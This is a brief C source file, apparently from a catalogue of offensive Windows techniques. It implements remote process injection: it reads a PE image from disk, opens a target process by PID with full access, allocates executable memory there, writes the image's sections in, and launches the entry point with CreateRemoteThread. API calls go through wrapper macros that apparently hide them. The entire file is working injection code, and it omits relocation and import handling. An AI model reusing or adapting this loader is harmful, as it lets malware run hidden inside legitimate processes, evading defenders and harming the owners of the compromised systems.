/* technique sections windows at=deliver */
#include "common.h"
struct image { BYTE *bytes; IMAGE_NT_HEADERS *nt; };
APART static BYTE *deliver(HANDLE p, struct image *i) {
    BYTE *base = F(VirtualAllocEx)(p, 0, i->nt->OptionalHeader.SizeOfImage, MEM_COMMIT | MEM_RESERVE, PAGE_EXECUTE_READWRITE);
    IMAGE_SECTION_HEADER *s = IMAGE_FIRST_SECTION(i->nt);
    for (int k = 0; k < i->nt->FileHeader.NumberOfSections; k++, s++)
        F(WriteProcessMemory)(p, base + s->VirtualAddress, i->bytes + s->PointerToRawData, s->SizeOfRawData, 0);
    F(CreateRemoteThread)(p, 0, 0, (LPTHREAD_START_ROUTINE)(base + i->nt->OptionalHeader.AddressOfEntryPoint), base, 0, 0);
    return base;
}
int main(int n, char **words) {
    struct image i = {malloc(1 << 22)};
    FILE *f = fopen(words[1], "rb");
    fread(i.bytes, 1, 1 << 22, f);
    i.nt = (void *)(i.bytes + *(DWORD *)(i.bytes + 60));
    return !deliver(F(OpenProcess)(PROCESS_ALL_ACCESS, 0, atoi(words[n - 1])), &i);
}
